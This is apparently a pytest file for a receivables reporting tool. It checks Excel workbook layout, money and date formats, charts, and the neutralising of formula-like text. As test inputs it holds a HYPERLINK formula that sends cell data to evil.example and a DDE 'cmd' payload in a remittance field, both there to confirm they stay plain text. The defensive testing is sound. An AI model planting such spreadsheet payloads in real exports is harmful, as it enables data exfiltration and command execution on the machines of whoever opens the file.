"""The Excel workbook (opened again with openpyxl) and the PNG charts."""

from __future__ import annotations

import datetime as dt
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from receivables.aging import TABLE_BUCKETS, aging_from_warehouse
from receivables.charts import aging_chart, aging_trend, trend_chart
from receivables.errors import ReceivablesError
from receivables.workbook import neutralise, report_sheets, write_workbook

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

CUSTOMERS = pd.DataFrame(
    {
        "customer_id": ["C1", "C2", "C3"],
        "name": [HOSTILE, "Müller & Söhne GmbH", "@SUM(1+1)"],
        "currency": ["EUR", "EUR", "USD"],
    }
)


def aging_frame() -> pd.DataFrame:
    rows = [
        ("1000", "C1", "EUR", [123456, 1, 0, 0, 0, 99]),
        ("1000", "C2", "EUR", [0, 0, 5000, -2500, 0, 0]),
        ("3000", "C3", "USD", [10, 20, 30, 40, 50, 60]),
    ]
    frame = pd.DataFrame(
        [
            {"company_code": c, "customer_id": k, "currency": cur, **dict(zip(TABLE_BUCKETS, b)), "total": sum(b)}
            for c, k, cur, b in rows
        ]
    )
    frame["total_base"] = pd.array([123556, 2500, pd.NA], dtype="Int64")
    return frame


WORKLIST = pd.DataFrame(
    {
        "rank": [1, 2],
        "company_code": ["1000", "1000"],
        "customer_id": ["C1", "C2"],
        "collector": ["Anna", None],
        "priority": [113.07, 42.07],
        "overdue_amount": [999900, 99900],
        "reason": ["-1 day: call", "dispute D4"],
        "next_action": ["handover", "call"],
    }
)
UNAPPLIED = pd.DataFrame(
    {
        "payment_id": ["P1"],
        "company_code": ["1000"],
        "customer_id": [None],
        "remaining_amount": [8000],
        "currency": ["EUR"],
        "reason": ["UNIDENTIFIED"],
    }
)
PAYMENTS = pd.DataFrame(
    {
        "payment_id": ["P1"],
        "value_date": pd.to_datetime(["2026-10-15"]),
        "payer_name": ["+49 ACME"],
        "remittance_info": ["\t=cmd|' /C calc'!A0"],
    }
)
NOTICES = pd.DataFrame(
    {
        "notice_id": ["N1"],
        "company_code": ["1000"],
        "customer_id": ["C1"],
        "currency": ["EUR"],
        "level": [2],
        "overdue_amount": [100],
        "fees": [500],
        "interest": [3],
        "action": ["email"],
        "policy": ["STANDARD"],
    }
)
KPIS = pd.DataFrame(
    {
        "company_code": ["1000", "1000", "ALL"],
        "kpi": ["dso_standard", "ar_total", "cei"],
        "value": [Decimal("37.5000"), Decimal("5000.00"), None],
        "unit": ["days", "amount", "percent"],
    }
)


@pytest.fixture(scope="module")
def workbook(tmp_path_factory) -> openpyxl.Workbook:
    path = tmp_path_factory.mktemp("wb") / "run.xlsx"
    sheets = report_sheets(aging_frame(), WORKLIST, UNAPPLIED, NOTICES, KPIS, customers=CUSTOMERS, payments=PAYMENTS)
    write_workbook(path, sheets, created=dt.datetime(2026, 10, 31))
    return openpyxl.load_workbook(path)


def test_sheets_headers_filters_and_frozen_panes(workbook) -> None:
    assert workbook.sheetnames == ["Aging", "Worklist", "Unapplied cash", "Dunning proposal", "KPIs"]
    ws = workbook["Aging"]
    assert [c.value for c in ws[1]] == [
        "Company code",
        "Customer",
        "Customer name",
        "Currency",
        "Not due",
        "1-30",
        "31-60",
        "61-90",
        "91-120",
        "121+",
        "Total",
        "Total (base currency)",
    ]
    assert ws[1][0].font.b
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:L4"
    assert ws.column_dimensions["C"].width > 20  # fits the long customer name
    for name in workbook.sheetnames:
        assert workbook[name].freeze_panes == "A2"
        assert workbook[name].auto_filter.ref


def test_formula_like_text_stays_text(workbook) -> None:
    ws = workbook["Aging"]
    assert ws["C2"].value == "'" + HOSTILE
    assert ws["C2"].data_type == "s"
    assert ws["C3"].value == "Müller & Söhne GmbH"
    assert ws["C4"].value == "'@SUM(1+1)"
    cash = workbook["Unapplied cash"]
    row = {h.value: c for h, c in zip(cash[1], cash[2])}
    assert row["Payer"].value == "'+49 ACME"
    assert row["Remittance text"].value == "'\t=cmd|' /C calc'!A0"
    assert workbook["Worklist"]["I2"].value == "'-1 day: call"  # the reason column
    for ws in workbook.worksheets:
        for line in ws.iter_rows():
            assert all(c.data_type != "f" for c in line)


def test_money_to_the_cent_and_dates_as_dates(workbook) -> None:
    ws = workbook["Aging"]
    assert ws["E2"].value == 1234.56 and ws["E2"].number_format == "#,##0.00"
    assert ws["F2"].value == 0.01
    assert ws["H3"].value == -25.0
    assert ws["K2"].value == 1235.56
    assert ws["L4"].value is None  # no rate: blank, not zero
    cash = workbook["Unapplied cash"]
    row = {h.value: c for h, c in zip(cash[1], cash[2])}
    assert row["Unapplied amount"].value == 80.0
    assert row["Value date"].value == dt.datetime(2026, 10, 15) and row["Value date"].number_format == "yyyy-mm-dd"
    dun = workbook["Dunning proposal"]
    assert [c.value for c in dun[2]][6:9] == [1.0, 5.0, 0.03]
    kpis = workbook["KPIs"]
    assert [[c.value for c in r] for r in kpis.iter_rows(min_row=2)] == [
        ["1000", "dso_standard", 37.5, "days"],
        ["1000", "ar_total", 5000.0, "amount"],
        ["ALL", "cei", None, "percent"],
    ]


def test_neutralise() -> None:
    assert [neutralise(t) for t in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "a=1", "", "Acme"]] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "'\rx",
        "a=1",
        "",
        "Acme",
    ]


def test_sheet_names_are_made_valid_and_unique(tmp_path: Path) -> None:
    frame = pd.DataFrame({"a": [1]})
    path = write_workbook(
        tmp_path / "x.xlsx", {"a/b:c": frame, "A/B:C": frame, "x" * 40: frame, "empty": frame.iloc[0:0]}
    )
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["a_b_c", "A_B_C (2)", "x" * 31, "empty"]
    assert wb["empty"].freeze_panes == "A2"


def test_same_input_same_file(tmp_path: Path) -> None:
    sheets = report_sheets(aging_frame(), WORKLIST, UNAPPLIED, NOTICES, KPIS, customers=CUSTOMERS, payments=PAYMENTS)
    created = dt.datetime(2026, 10, 31)
    a = write_workbook(tmp_path / "a.xlsx", sheets, created=created).read_bytes()
    b = write_workbook(tmp_path / "b.xlsx", sheets, created=created).read_bytes()
    assert a == b


def test_too_many_rows_is_a_readable_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("receivables.workbook.EXCEL_MAX_ROWS", 3)
    with pytest.raises(ReceivablesError, match="has 3 rows, more than the 2 data rows an Excel sheet holds"):
        write_workbook(tmp_path / "big.xlsx", {"Aging": aging_frame()})


# --- charts --------------------------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n"


def test_aging_chart_is_a_png(tmp_path: Path) -> None:
    path = aging_chart(aging_frame(), tmp_path / "charts" / "aging.png")
    data = path.read_bytes()
    assert data.startswith(PNG) and len(data) > 10_000
    empty = aging_chart(aging_frame().iloc[0:0], tmp_path / "empty.png").read_bytes()
    assert empty.startswith(PNG) and len(empty) > 2_000


def history() -> pd.DataFrame:
    rows = []
    for k, as_of in enumerate([date(2026, 8, 31), date(2026, 9, 30), date(2026, 10, 31)]):
        frame = aging_frame().assign(as_of=as_of)
        frame["d1_30"] += 10000 * k
        frame["total"] += 10000 * k
        rows.append(frame)
    # as the warehouse returns it: money as Decimal
    raw = pd.concat(rows, ignore_index=True)
    for c in [*TABLE_BUCKETS, "total", "total_base"]:
        raw[c] = [None if pd.isna(v) else Decimal(int(v)).scaleb(-2) for v in raw[c]]
    return raw


def test_trend_from_warehouse_rows(tmp_path: Path) -> None:
    trend = aging_trend(aging_from_warehouse(history()))
    eur = trend.loc[trend["currency"] == "EUR"]
    # two EUR customers, each 100.00 more in 1-30 every month
    assert eur["total"].tolist() == [126056, 146056, 166056]
    assert eur["overdue"].tolist() == [2600, 22600, 42600]  # 0.01 + 50.00 - 25.00 + 0.99, plus the growing 1-30
    data = trend_chart(aging_from_warehouse(history()), tmp_path / "trend.png").read_bytes()
    assert data.startswith(PNG) and len(data) > 10_000
    assert trend_chart(aging_from_warehouse(history().iloc[0:0]), tmp_path / "none.png").read_bytes().startswith(PNG)


def test_configured_bucket_labels_as_headers(tmp_path: Path) -> None:
    from receivables.aging import AgingConfig, Bucket
    from receivables.workbook import labels_for

    edges = [0, 45, 60, 90, 120, None]
    names = ["Current", "1-45", "46-60", "61-90", "91-120", "121+"]
    config = AgingConfig(
        buckets=tuple(Bucket(column=c, label=n, max_days=e) for c, n, e in zip(TABLE_BUCKETS, names, edges))
    )
    path = write_workbook(tmp_path / "l.xlsx", {"Aging": aging_frame()}, labels=labels_for(config))
    assert [c.value for c in openpyxl.load_workbook(path)["Aging"][1]][3:9] == names


def test_a_nights_workbook_is_the_same_written_in_the_background(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A large night writes its workbook in another process while the reminders render: the
    file is the one the run's own process writes, and appears only once the run published."""
    from receivables import pipeline, report_stage
    from receivables.settings import load_settings
    from tests.conftest import VALID_AS_OF, VALID_SET, write_set

    monkeypatch.setattr(report_stage, "BACKGROUND_WORKBOOK_ROWS", 1)
    books = {}
    real_publish = pipeline.publish
    for mode, render_workers in (("inline", 1), ("background", 2)):
        work = tmp_path / mode
        settings = load_settings(
            db_url=f"sqlite:///{work / 'w.db'}",
            archive_dir=work / "archive",
            outbox_dir=work / "outbox",
            reports_dir=work / "reports",
            mail_mode="preview",
            render_workers=render_workers,
        )
        seen_before_publish = {}

        def publish(run, *args, work=work, seen_before_publish=seen_before_publish, **kwargs):
            seen_before_publish["files"] = sorted(p.name for p in (work / "reports").rglob("*.xlsx"))
            return real_publish(run, *args, **kwargs)

        monkeypatch.setattr(pipeline, "publish", publish)
        summary = pipeline.run_nightly(
            str(write_set(work / "extracts", VALID_SET)), date.fromisoformat(VALID_AS_OF), settings
        )
        assert seen_before_publish["files"] == []  # no workbook under its name before the publish
        path = Path(summary["files"]["workbook"])
        assert sorted(p.name for p in path.parent.iterdir() if "xlsx" in p.name) == [path.name]  # no .partial left
        books[mode] = openpyxl.load_workbook(path)
    for inline, background in zip(books["inline"].worksheets, books["background"].worksheets):
        assert inline.title == background.title
        assert [[c.value for c in row] for row in inline.iter_rows()] == [
            [c.value for c in row] for row in background.iter_rows()
        ]
